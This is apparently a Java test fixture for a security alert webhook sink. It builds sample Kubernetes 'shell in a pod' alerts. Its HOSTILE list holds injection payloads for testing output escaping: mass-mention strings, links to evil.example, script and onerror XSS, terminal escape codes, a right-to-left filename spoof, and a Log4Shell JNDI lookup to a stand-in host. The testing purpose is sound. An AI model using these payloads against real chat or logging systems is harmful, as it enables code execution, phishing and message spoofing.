package io.bellbuoy.sink.channel.http;

import io.bellbuoy.schemas.Alert;
import io.bellbuoy.schemas.Severity;
import java.time.Instant;
import java.util.List;
import java.util.stream.IntStream;

/** One alert as they are, and the same with what an attacker would write into it. */
public record SampleAlert(
    Severity severity, String message, String user, String pod, List<Alert.Evidence> evidence) {

  /** When it was raised. */
  public static final Instant RAISED = Instant.parse("2026-03-01T12:00:01.5Z");

  /** Texts that one chat, markup or terminal or another obeys. */
  public static final List<String> HOSTILE =
      List.of(
          "@everyone @here @channel @all",
          "<!channel> <!here> <@U024BE7LH> <users/all> <at>everyone</at> <@&1234>",
          "<http://evil.example|click> [click](http://evil.example) [click|http://evil.example]",
          "http://evil.example www.evil.example",
          "<script>alert(1)</script> <b>bold</b> &lt;b&gt; &amp;",
          "*bold* _it_ ~gone~ `code` ``` ~~ ** || > # - 1.",
          "` @everyone `",
          "{noformat} [~admin] {color:red} {NoFormat}",
          "[code]<img src=x onerror=alert(1)>[/code] [CODE]",
          "line\r\nline\nline\u2028line\u0000\u001b[31mred\u009b1m",
          "\u202egnp.exe\u2066 \u200b\ufeff",
          "\ud83d\udedf Ünïcode \ud800",
          "\"quoted\" 'single' \\ back / ${jndi:ldap://evil.example/a} {{x}} {alert.message}");

  /** A plain one. */
  public static Alert plain() {
    return new SampleAlert(
            Severity.HIGH,
            "alice@example.com opened a shell in shop/web-0",
            "alice@example.com",
            "web-0",
            List.of(
                new Alert.Evidence("verb", "create"),
                new Alert.Evidence("objectRef.subresource", "exec")))
        .alert();
  }

  /** A plain one of that severity. */
  public static Alert of(Severity severity) {
    return new SampleAlert(severity, "message", "alice", "web-0", List.of()).alert();
  }

  /** One whose every text is that. */
  public static Alert saying(String text) {
    return new SampleAlert(
            Severity.CRITICAL,
            text,
            text,
            text,
            IntStream.range(0, 12).mapToObj(n -> new Alert.Evidence("a.b" + n, text)).toList())
        .alert();
  }

  private Alert alert() {
    return new Alert(
        Alert.id("prod", message + user, "exec-in-pod"),
        RAISED,
        "2026-03-01T12:00:00.000000Z",
        new Alert.RuleReference(
            "exec-in-pod", "Shell in a pod", severity, List.of("T1609"), List.of("pod-security")),
        7,
        message,
        "prod",
        "kubernetes",
        null,
        null,
        null,
        null,
        null,
        "webhook",
        "0b6e3bd5-8c5c-4d5e-9a3f-1f3a4b5c6d7e",
        "RequestResponse",
        "ResponseComplete",
        "create",
        new Alert.User(user, null, List.of("system:authenticated")),
        null,
        new Alert.ObjectReference("pods", "exec", "shop", pod, null, "v1"),
        "/api/v1/namespaces/shop/pods/web-0/exec",
        List.of("192.0.2.7"),
        "kubectl/v1.31.0",
        101,
        "allow",
        null,
        evidence,
        null);
  }
}
